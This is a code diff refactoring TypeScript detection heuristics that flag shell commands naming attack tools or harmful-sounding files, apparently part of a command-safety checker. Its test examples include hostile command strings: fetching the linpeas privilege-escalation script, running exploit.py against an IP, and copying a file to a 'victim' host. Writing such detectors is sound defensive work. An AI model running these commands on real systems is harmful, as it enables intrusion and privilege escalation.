@@ -1,7 +1,7 @@
 // Attack tools: programs whose only everyday use is breaking in, and the words they are started with.
 import type { CommandFact } from "../../../../../shared/domain/facts.ts";
 import { severity } from "../../bands.ts";
-import { type Heuristic, clip, firstOf, onAnyCommand, onCommand, when } from "../../heuristic.ts";
+import { type Check, type Heuristic, clip, firstOf, onAnyCommand, onCommand, when } from "../../heuristic.ts";
 import { has, isDryRun, settingsOf } from "../../../normalise/programs/invocation.ts";
 
 const names =
@@ -29,6 +29,15 @@ function namesNobody(command: CommandFact): boolean {
   );
 }
 
+/** The text of a call matches, and some program does more with it than show or search. */
+function named(pattern: RegExp, reason: (found: string) => string): Check {
+  return when([{ text: pattern }], ({ facts, text }) => {
+    if (facts.commands.length > 0 && facts.commands.every((command) => quiet.test(command.program))) return null;
+    const match = pattern.exec(text);
+    return match === null ? null : { reason: reason(match[0]), evidence: clip(match[0].trim()) };
+  });
+}
+
 export const attackTools: readonly Heuristic[] = [
   {
     id: "attack-tool",
@@ -53,14 +62,7 @@ export const attackTools: readonly Heuristic[] = [
     threat: "Attack tool",
     technique: "T1588.002",
     score: severity.ask,
-    check: when([{ text: namedTools }], (view) => {
-      if (view.facts.commands.length > 0 && view.facts.commands.every((command) => quiet.test(command.program)))
-        return null;
-      const match = namedTools.exec(view.text);
-      return match === null
-        ? null
-        : { reason: `It names ${match[0]}, a tool for breaking in`, evidence: clip(match[0]) };
-    }),
+    check: named(namedTools, (found) => `It names ${found}, a tool for breaking in`),
     match: [`python3 -c 'import requests; requests.get("https://example.org/linpeas.sh")'`],
     not_match: ["grep -rn linpeas docs"],
   },
@@ -113,14 +115,7 @@ export const attackTools: readonly Heuristic[] = [
     threat: "Attack tool",
     technique: "T1588",
     score: severity.ask,
-    check: when([{ text: evil }], (view) => {
-      if (view.facts.commands.length > 0 && view.facts.commands.every((command) => quiet.test(command.program)))
-        return null;
-      const match = evil.exec(view.text);
-      return match === null
-        ? null
-        : { reason: "It works on something that calls itself harmful", evidence: clip(match[0].trim()) };
-    }),
+    check: named(evil, () => "It works on something that calls itself harmful"),
     match: ["python3 exploit.py 10.0.0.1", "cp a /tmp/evil-binary", "scp a victim@host.example:/tmp/"],
     not_match: ["ls", "grep -r evil src", "npm install evil-icons"],
   },
